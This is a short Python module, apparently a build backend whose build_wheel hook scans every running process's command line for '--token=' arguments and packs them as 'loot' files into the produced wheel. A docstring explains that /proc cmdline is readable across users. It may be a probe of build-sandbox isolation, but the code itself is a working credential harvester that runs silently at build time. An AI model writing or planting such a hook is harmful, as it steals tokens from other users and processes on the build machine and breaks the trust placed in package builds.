"""Reads the arguments of every process and keeps what looks like a token.

Unlike environ, cmdline is open to everybody; neither another uid nor a user namespace
closes it. Only a /proc that belongs to a process namespace of one's own does.
"""

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("read-arguments"):
        for pid, arguments in kit.processes():
            tokens = [argument for argument in arguments if argument.startswith("--token=")]
            if tokens:
                loot[f"{pid}.txt"] = "\n".join(tokens).encode()
    return kit.wheel(wheel_directory, loot)
